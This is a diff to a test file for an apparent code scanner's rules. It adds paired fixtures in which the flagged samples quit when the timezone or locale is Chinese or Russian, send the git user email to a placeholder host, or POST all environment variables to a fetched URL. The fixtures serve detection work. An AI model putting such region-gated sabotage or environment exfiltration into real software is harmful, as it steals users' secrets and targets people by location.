@@ -367,7 +367,7 @@ describe('engine: value flow through carriers and module systems', () => {
     assert.deepStrictEqual(sent(program('other')).map((f) => f.message), [], 'another storage holds a constant');
   });
 
-  it('follows ordinary idioms: then(), default parameters, emits inside a subclass, exec(), Intl.Locale, POSIX locales, ws, Headers, sort(), a git key handed to a wrapper, promisify, a policy table, defineProperty, a list of id files, a closure a factory returns, instances written from outside, a query parameter', () => {
+  it('follows ordinary idioms: then(), default parameters, emits inside a subclass, exec(), Intl.Locale, POSIX locales, ws, Headers, sort(), a git key handed to a wrapper, promisify, a policy table, defineProperty, a list of id files, a closure a factory returns, instances written from outside, a query parameter, a private Map', () => {
     const TZ = 'Intl.DateTimeFormat().resolvedOptions().timeZone';
     // [idiom, rule, positive, benign twin]: the twin differs only in what makes it ordinary.
     const cases: [string, string, string, string][] = [
@@ -392,6 +392,7 @@ describe('engine: value flow through carriers and module systems', () => {
       ['an instance written from outside, through a setter', 'env-gated-behavior', `class Settings {\n  #locale = "en-US";\n  set locale(v) { this.#locale = String(v); }\n  get region() { return this.#locale.split("_").pop(); }\n  get limited() { return this.region === "CN" || this.region === "RU"; }\n}\nconst s = new Settings();\ns.locale = (process.env.LANG || "").split(".")[0];\nif (s.limited) throw new Error("unavailable");`, `class Settings {\n  #locale = "en-US";\n  set locale(v) { this.#locale = String(v); }\n  get region() { return this.#locale.split("_").pop(); }\n  get limited() { return this.region === "CN" || this.region === "RU"; }\n}\nconst s = new Settings();\ns.locale = (process.argv[2] || "").split(".")[0];\nif (s.limited) throw new Error("unavailable");`],
       ['an instance written from outside, read in a method', 'env-gated-behavior', `class Settings { isLimited() { return this.locale === "zh_CN" || this.locale === "ru_RU"; } }\nconst s = new Settings();\ns.locale = (process.env.LANG || "").split(".")[0];\nif (s.isLimited()) throw new Error("unavailable");`, `class Settings { isLimited() { return this.locale === "zh_CN" || this.locale === "ru_RU"; } }\nconst s = new Settings();\ns.locale = "en_US";\nif (s.isLimited()) throw new Error("unavailable");`],
       ['a query parameter set in a branch, not a format', 'env-gated-behavior', `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst tag = (process.env.LANG || "").split(".")[0];\nfunction request(path) { const url = new URL(path, "https://api.example.dev"); if (tag === "zh_CN") url.searchParams.set("safety", "max"); return fetch(url, { method: "POST" }); }\nrequest("/v1");`, `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst tag = (process.env.LANG || "").split(".")[0];\nfunction request(path) { const url = new URL(path, "https://api.example.dev"); if (tag === "zh_CN") url.searchParams.set("lang", "zh"); return fetch(url, { method: "POST" }); }\nrequest("/v1");`],
+      ['a Map a class keeps in a private field', 'env-gated-behavior', `class Registry {\n  #entries = new Map();\n  add(name, rec) { this.#entries.set(name, rec); return this; }\n  find(name) { return this.#entries.get(name); }\n}\nconst reg = new Registry().add("clock", { zone: ${TZ} }).add("build", { zone: "UTC" });\nif (["Asia/Shanghai", "Asia/Urumqi"].includes(reg.find("clock").zone)) process.exit(1);`, `class Registry {\n  #entries = new Map();\n  add(name, rec) { this.#entries.set(name, rec); return this; }\n  find(name) { return this.#entries.get(name); }\n}\nconst reg = new Registry().add("clock", { zone: "UTC" }).add("build", { zone: "UTC" });\nif (["Asia/Shanghai", "Asia/Urumqi"].includes(reg.find("clock").zone)) process.exit(1);`],
       ['git key handed to a wrapper', 'host-identity-sent', "const { execSync } = require(\"child_process\");\nfunction gitConfig(key) { return execSync(`git config --get ${key}`).toString().trim(); }\nfetch(\"https://t.example.dev/v1\", { headers: { \"x-user\": gitConfig(\"user.email\") } });", "const { execSync } = require(\"child_process\");\nfunction gitConfig(key) { return execSync(`git config --get ${key}`).toString().trim(); }\nfetch(\"https://t.example.dev/v1\", { headers: { \"x-editor\": gitConfig(\"core.editor\") } });"],
     ];
     for (const [idiom, rule, positive, benign] of cases) {
@@ -399,6 +400,15 @@ describe('engine: value flow through carriers and module systems', () => {
       assert.strictEqual(hits(positive).length, 1, `${idiom}: ${loud(scan(positive)).map((f) => f.message).join(' | ')}`);
       assert.deepStrictEqual(hits(benign).map((f) => f.message), [], `${idiom}: the twin`);
     }
+  });
+
+  it("does not take a function that works on a fetched response's data for one that sends what it is given", () => {
+    const env = (code: string) => scan(code).filter((f) => f.ruleId === 'env-enumerate').map((f) => f.severity);
+    const load = `async function load() { const r = await fetch("https://cfg.example.dev/c"); return r.json(); }`;
+    // The configured URL (from a response) has the environment's variables put into it: nothing is sent here.
+    assert.deepStrictEqual(env(`${load}\nfunction expand(url, env) { return new URL(url.trim().replace(/\\$\\{(\\w+)\\}/g, (m, k) => env[k] ?? "")); }\nload().then((cfg) => { const t = { ...process.env }; console.log(expand(cfg.url, t).href); });`), ['low']);
+    // Sent to that URL, it is.
+    assert.deepStrictEqual(env(`${load}\nfunction send(url, env) { return fetch(url.trim(), { method: "POST", body: JSON.stringify(env) }); }\nload().then((cfg) => { const t = { ...process.env }; send(cfg.url, t); });`), ['high']);
   });
 
   it('carries a record through spreads and fallbacks into the body it sends', () => {
